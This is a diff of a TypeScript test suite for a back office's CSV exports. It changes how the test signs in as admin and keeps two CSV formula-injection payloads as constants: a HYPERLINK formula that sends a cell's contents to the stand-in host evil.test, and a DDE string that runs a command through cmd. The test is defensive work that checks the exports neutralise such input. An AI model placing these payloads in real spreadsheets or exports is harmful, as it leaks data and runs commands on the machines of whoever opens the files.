@@ -5,7 +5,7 @@ import { adminCopy } from '~/content/admin'
 import { newsletterCopy } from '~/content/newsletter'
 import type { LocalSupabase } from '../../local/supabase/server'
 import { readCsvStream } from '../support/csv'
-import { client, serviceClient, startTestSupabase } from '../support/supabase'
+import { serviceClient, signedIn, startTestSupabase } from '../support/supabase'
 import { uniqueName, uniqueSlot } from '../support/unique'
 
 // Every CSV export of the back office, fed what a visitor can type, read by the real code under an admin's
@@ -16,12 +16,7 @@ beforeAll(async () => {
 })
 afterAll(() => supabase.stop())
 
-async function asAdmin() {
-	const admin = client(supabase.url)
-	const { error } = await admin.auth.signInWithPassword({ email: 'admin@kia.test', password: 'kia-admin-2025' })
-	if (error) throw error
-	return admin
-}
+const asAdmin = async () => (await signedIn(supabase.url, 'admin@kia.test', 'kia-admin-2025')).client
 
 const hyperlink = '=HYPERLINK("http://evil.test/?"&D3;"Ver")'
 const command = "=cmd|' /C calc'!A0"
